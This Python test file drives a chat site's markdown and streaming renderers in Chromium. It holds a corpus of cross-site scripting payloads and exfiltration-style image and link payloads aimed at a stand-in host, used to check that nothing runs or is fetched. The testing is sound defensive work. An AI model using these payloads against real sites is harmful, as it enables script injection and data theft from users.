"""markdown.js and prose.js in a real Chromium: a text runs nothing, loads nothing from elsewhere, and costs little."""

from __future__ import annotations

import hashlib
import itertools
import json
import random
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Page as Tab
from playwright.sync_api import expect

from tests import client_files
from tests.chat_site import ask, finish, part, says, serve_chat, visit
from tests.fake_wire import FakeWire, Page

pytest_plugins = ["tests.browser"]
pytestmark = pytest.mark.browser

#: What must never run, whatever stands around it: each calls ``ran`` when it does.
ATTACKS = [
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:ran()'><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=ran() src>'></style></mtext></svg>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<details open ontoggle=ran()>x</details>",
    "<input autofocus onfocus=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<object data='javascript:ran()'></object>",
    "<embed src='javascript:ran()'>",
    "<base href='javascript:ran()//'>",
    "<a href='javascript:ran()'>click</a>",
    "<div style='background:url(javascript:ran())'>x</div>",
    "<template shadowrootmode=open><img src=x onerror=ran()></template>",
    "<template><script>ran()</script></template>",
    "<x-y is='z' onclick=ran()>click</x-y>",
    "<button popovertarget=x onclick=ran()>click</button><div id=x popover onbeforetoggle=ran()>",
    "<form id=attributes><input name=attributes></form><img name=getElementById src=x onerror=ran()>",
    "[click](javascript:ran())",
    "[click](JaVaScRiPt:ran())",
    "[click](java\nscript:ran())",
    "[click](&#106;avascript:ran())",
    "[click](&#x6A;&#x61;vascript&colon;ran())",
    "[click](\\javascript:ran())",
    "[click](vbscript:ran())",
    "[click](data:text/html,<script>opener.ran()</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKCk8L3NjcmlwdD4=)",
    "[click][1]\n\n[1]: javascript:ran()",
    "![x](javascript:ran())",
    '![x](x"onerror="ran())',
    '![x"onerror="ran()](/none.svg)',
    "![x](/none.svg \"t' onerror='ran()\")",
    "[click](x \"' onclick='ran()\")",
    "[click](x '\" onmouseover=\"ran()')",
    "<javascript:ran()>",
    '``` x"><img/src=x/onerror=ran()>\ncode\n```',
    "`<img src=x onerror=ran()>`",
    "| <img src=x onerror=ran()> |\n|---|\n| <svg onload=ran()> |",
    "# <img src=x onerror=ran()>",
    "- [ ] <img src=x onerror=ran()>",
    "> <img src=x onerror=ran()>",
    "**<img src=x onerror=ran()>**",
    "&lt;img src=x onerror=ran()&gt;",
    "<<img src=x onerror=ran()>>",
    "<img src=x onerror=ran()//",
    "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "<?php <img src=x onerror=ran()> ?>",
    "\u2028<img src=x onerror=ran()>\u0000<svg/onload=ran()>",
]
#: What must not be fetched, whoever asks for it.
LEAKS = [
    "![x](http://evil.test/?d=SECRET)",
    "![x](//evil.test/x.png)",
    "![x](https://evil.test/x.png)",
    "![x](http:\\\\evil.test\\x.png)",
    "![x](http://127.0.0.1:1/x.png)",
    "![x][ref]\n\n[ref]: http://evil.test/ref.png",
    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>)",
    "![x](blob:http://127.0.0.1/x)",
    "![x](ftp://evil.test/x.png)",
    "![x](/leave?to=http://evil.test/redirected.png)",
    "[![x](http://evil.test/in-a-link.png)](http://evil.test/)",
    "http://evil.test/autolink and www.evil.test and <http://evil.test/angle>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=preload as=image href=http://evil.test/x.png><link rel=dns-prefetch href=//evil.test>",
    "<style>@import url(http://evil.test/x.css); * { background: url(http://evil.test/x.png) }</style>",
    "<p style='background:url(http://evil.test/style.png)'>x</p>",
    "<svg><image href=http://evil.test/x.svg /><use href='http://evil.test/x.svg#a'/></svg>",
    "<svg><filter><feImage href=http://evil.test/x.svg /></filter></svg>",
    "<img src=http://evil.test/x.png srcset='http://evil.test/y.png 2x'>",
    "<picture><source srcset=http://evil.test/x.png><img></picture>",
    "<video src=http://evil.test/v poster=http://evil.test/p.png></video><audio src=http://evil.test/a>",
    "<iframe src=http://evil.test/></iframe><object data=http://evil.test/></object><embed src=http://evil.test/>",
    "<body background=http://evil.test/x.png><table background=http://evil.test/x.png>",
    "<input type=image src=http://evil.test/x.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<script src=http://evil.test/x.js></script>",
    "<a ping=http://evil.test/ping href=/>x</a>",
    "<form action=http://evil.test/><button>x</button></form>",
]


@pytest.fixture
def wire() -> Iterator[FakeWire]:
    wire = FakeWire()
    serve_chat(wire)
    wire.pages["/none.svg"] = Page("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    yield wire
    wire.close()


def without_policies(wire: FakeWire) -> None:
    """Serve the same without a Content-Security-Policy: the files alone must hold."""
    for address, page in list(wire.pages.items()):
        wire.pages[address] = Page(page.media_type, page.body)


def draw(tab: Tab, text: str) -> Any:
    """Draw a text in an element of the page; return its html."""
    return tab.evaluate(
        """async (text) => {
          const { blocks, nodes } = await import("/__litro/static/chat/markdown.js");
          const place = document.body.appendChild(document.createElement("div"));
          place.className = "drawn";
          place.append(nodes(blocks(text)));
          return place.innerHTML;
        }""",
        text,
    )


def test_nothing_in_a_models_text_runs(wire: FakeWire, page: Tab) -> None:
    without_policies(wire)
    page.goto(f"{wire.url}/chat")
    ran: list[str] = []
    page.expose_function("ran", lambda: ran.append("ran"))
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    for attack in [*ATTACKS, "\n\n".join(ATTACKS)]:
        draw(page, attack)
    links = page.locator(".drawn a")
    links.evaluate_all(
        "all => all.forEach(link => { link.removeAttribute('target'); link.addEventListener('click', event => "
        "link.protocol.startsWith('http') && event.preventDefault()); link.click(); })"
    )
    page.wait_for_timeout(300)
    assert ran == []
    assert (
        page.locator(
            ".drawn :is(script, svg, math, iframe, object, embed, form, style, template, input)"
        ).count()
        == 0
    )
    named = page.evaluate(
        "[...document.querySelectorAll('.drawn *')].flatMap(one => one.getAttributeNames())"
    )
    allowed = {
        "href",
        "rel",
        "target",
        "src",
        "alt",
        "title",
        "loading",
        "part",
        "tabindex",
        "align",
        "data-depth",
    }
    assert set(named) <= allowed


def test_the_attacks_do_run_where_nothing_holds_them(wire: FakeWire, page: Tab, chromium: Any) -> None:
    """The control: the same corpus, written into a page as it is."""
    without_policies(wire)
    tab = chromium.new_context().new_page()
    tab.goto(f"{wire.url}/chat")
    ran: list[str] = []
    tab.expose_function("ran", lambda: ran.append("ran"))
    for attack in ATTACKS:
        tab.evaluate(
            "(html) => { document.body.appendChild(document.createElement('div')).innerHTML = html; }", attack
        )
    tab.wait_for_function("() => true")
    deadline = 50
    while len(ran) < 5 and deadline:
        tab.wait_for_timeout(100)
        deadline -= 1
    tab.context.close()
    assert len(ran) >= 5


@pytest.mark.parametrize("strict", [True, False])
def test_no_request_leaves_for_anything_a_message_says(wire: FakeWire, page: Tab, strict: bool) -> None:
    if not strict:
        without_policies(wire)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    wire.script = says("\n\n".join([*LEAKS, "![ours](/none.svg)"]))
    visit(page, wire)
    ask(page)
    finish(page)
    expect(part(page, "text").locator("img").last).to_have_attribute("alt", "ours")
    page.wait_for_timeout(300)
    assert [url for url in asked if not url.startswith(f"{wire.url}/")] == []
    assert [url for url in asked if "/leave" in url] == []
    assert f"{wire.url}/none.svg" in asked


def test_the_leaks_do_leave_where_nothing_holds_them(wire: FakeWire, page: Tab, chromium: Any) -> None:
    """The control: a renderer that trusts the model's html and images."""
    without_policies(wire)
    tab = chromium.new_context().new_page()
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    tab.route("**/*evil.test/**", lambda route: route.abort())
    tab.goto(f"{wire.url}/chat")
    tab.evaluate(
        """async (text) => {
          const { Marked } = await import("/__litro/static/vendor/marked.js");
          document.body.appendChild(document.createElement("div")).innerHTML = new Marked().parse(text);
        }""",
        "\n\n".join(leak for leak in LEAKS if "refresh" not in leak and "base" not in leak),
    )
    deadline = 50
    while len([url for url in asked if "evil" in url]) < 5 and deadline:
        tab.wait_for_timeout(100)
        deadline -= 1
    tab.context.close()
    assert len([url for url in asked if "evil" in url]) >= 5


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e</code></p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("# a\n## b\n#### c", '<h3 data-depth="1">a</h3><h3 data-depth="2">b</h3><h4 data-depth="4">c</h4>'),
        ("<b>x</b> & <i>", "<p>&lt;b&gt;x&lt;/b&gt; &amp; &lt;i&gt;</p>"),
        ("- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
        ("```js\nx < 1\n```", "<pre><code>x &lt; 1</code></pre>"),
        (
            "[out](https://x.test/a) [in](/b) [mail](mailto:a@x.test)",
            '<p><a href="https://x.test/a" rel="noopener noreferrer" target="_blank">out</a> '
            '<a href="/b" rel="noopener noreferrer">in</a> '
            '<a href="mailto:a@x.test" rel="noopener noreferrer" target="_blank">mail</a></p>',
        ),
        ("[x](javascript:a)", "<p><a>x</a></p>"),
        ("![ours](/none.svg)", '<p><img src="/none.svg" alt="ours" loading="lazy"></p>'),
        (
            "![theirs](https://x.test/a.png)",
            '<p><a part="" href="https://x.test/a.png" rel="noopener noreferrer" target="_blank">theirs</a></p>',
        ),
    ],
)
def test_markdown_is_drawn_as_people_expect_it(wire: FakeWire, page: Tab, text: str, html: str) -> None:
    page.goto(f"{wire.url}/chat")
    assert draw(page, text).replace(' part=""', "").strip() == html.replace(' part=""', "")


PROSE = """async ({pieces, whole}) => {
  const { Prose, work } = await import("/__litro/static/chat/prose.js");
  const root = document.createElement("div");
  const prose = new Prose(root);
  let frames = 0;
  const frame = () => { frames += 1; while (prose.run(() => false)); };
  work.parsed = work.drawn = 0;
  for (const piece of pieces) { prose.append(piece); frame(); }
  const live = root.textContent;
  prose.finish(whole ?? pieces.join(""));
  frame();
  return { html: root.innerHTML, live, frames, ...work };
}"""
SAMPLES = [
    "A paragraph\nof two lines.\n\n# A heading\n\nand more *text*.",
    "- one\n- two\n\n- three\n\n  with a paragraph\n- four\n\nafter",
    "1. one\n2. two\n   - inner\n   - inner\n3. three\n",
    "before\n```py\nprint('x')\n\n# no heading\n```\nafter",
    "```\nnever closed\n\n- not a list",
    "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nafter the table",
    "> quote\n> more\n\nafter\n\n> another",
    "Title\n=====\n\ntext\n\nSub\n---\n\n***\n",
    "a [link][1] and [again][1].\n\n[1]: https://x.test/a\n\nlater [link][1]",
    "<div>\nhtml\n\nblock</div>\n\ntext <b>inline</b>\n",
    "* a\n+ b\n- c\n",
    "    indented code\n\ntext\n\n\n\nmore",
    "line\r\nwindows\r\n\r\n- a\r\n- b\r\n",
    "x\n\n\n",
    "",
    "before\n\n" + "- an item of a list\n" * 400 + "\nafter",
    "| a | b |\n|---|---|\n" + "| one | two |\n" * 500 + "\nafter\n\n| c |\n|---|\n| d |\n",
    "a word " * 1_200 + "\n\nafter",
    "A paragraph.\n\n" * 1_500,
    "```\n" + "code\n" * 4_000 + "```\n\nafter",
    "[later][1]\n\n" + "A paragraph.\n\n" * 1_000 + "[1]: https://x.test/\n",
]


@pytest.fixture
def prose(wire: FakeWire, page: Tab) -> Callable[..., dict[str, Any]]:
    """Draw pieces, a frame after each; what was drawn and what it cost."""
    page.goto(f"{wire.url}/chat")
    return lambda pieces, whole=None: page.evaluate(PROSE, {"pieces": list(pieces), "whole": whole})


def cuts(text: str, seed: int) -> list[str]:
    chance = random.Random(seed)
    places = sorted(
        {0, len(text), *(chance.randrange(len(text) + 1) for _ in range(chance.randrange(1, 12)))}
    )
    return [text[start:end] for start, end in itertools.pairwise(places)]


@pytest.mark.parametrize("text", SAMPLES, ids=[repr(sample[:20]) for sample in SAMPLES])
def test_however_a_text_arrives_it_is_drawn_as_a_replay_draws_it(
    prose: Callable[..., Any], text: str
) -> None:
    whole = prose([], text)["html"]
    if len(text) < 1_000:
        assert prose(list(text))["html"] == whole
    for seed in range(10):
        assert prose(cuts(text, seed))["html"] == whole


def test_the_samples_together_are_drawn_alike(prose: Callable[..., Any]) -> None:
    ordinary = [sample for sample in SAMPLES if len(sample) < 1_000 and "\r" not in sample]
    text = "\n\n".join(sample for sample in ordinary if "never closed" not in sample)
    whole = prose([], text)["html"]
    for seed in range(10):
        assert prose(cuts(text, seed))["html"] == whole


@pytest.mark.parametrize("piece", ["word ", "- item\n", "text\n\n", "`code` **bold**\n"])
@pytest.mark.parametrize("before", ["", "```\n"])
def test_the_work_stays_in_proportion_to_the_text(prose: Callable[..., Any], before: str, piece: str) -> None:
    count = 4_000
    length = len(before + piece * count)
    found = prose([before, *[piece] * count])
    small = 2_100 * found["frames"]  # an open block of up to 2,000 characters may be drawn in every frame
    naive = length * found["frames"] // 2  # what it would cost to draw all of it in each
    for cost in (found["parsed"], found["drawn"]):
        assert cost < small + 20 * length
        assert cost < naive // 3


@pytest.mark.parametrize("piece", ["word ", "- item\n"])
def test_all_that_came_is_visible_at_once(prose: Callable[..., Any], piece: str) -> None:
    found = prose([piece] * 1_500 + ["the end"])
    assert found["live"].strip().endswith("the end")


def test_the_whole_text_replaces_what_came_of_it(prose: Callable[..., Any]) -> None:
    assert prose(["Half an answ"], "Other **words**")["html"].strip() == "<p>Other <strong>words</strong></p>"


def test_the_vendored_files_are_what_their_list_says() -> None:
    folder = client_files.STATIC / "vendor"
    listed = json.loads((folder / "VERSIONS.json").read_text())
    assert set(listed) == {path.name for path in folder.glob("*.js")}
    for name, entry in listed.items():
        body = (folder / name).read_bytes()
        assert hashlib.sha256(body).hexdigest() == entry["sha256"]
        assert entry["version"].encode() in body[:400]
        assert (folder / name.replace(".js", ".LICENSE")).exists()
